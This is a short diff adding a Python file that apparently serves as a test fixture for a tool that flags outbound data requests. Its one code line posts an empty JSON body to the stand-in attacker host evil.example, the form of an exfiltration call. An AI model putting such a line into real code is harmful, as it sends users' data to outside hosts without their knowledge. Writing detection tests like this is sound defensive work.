@@ -1,0 +1,3 @@
+# expect: requests | req data url
+import requests
+requests.post(url="http://evil.example",json={})
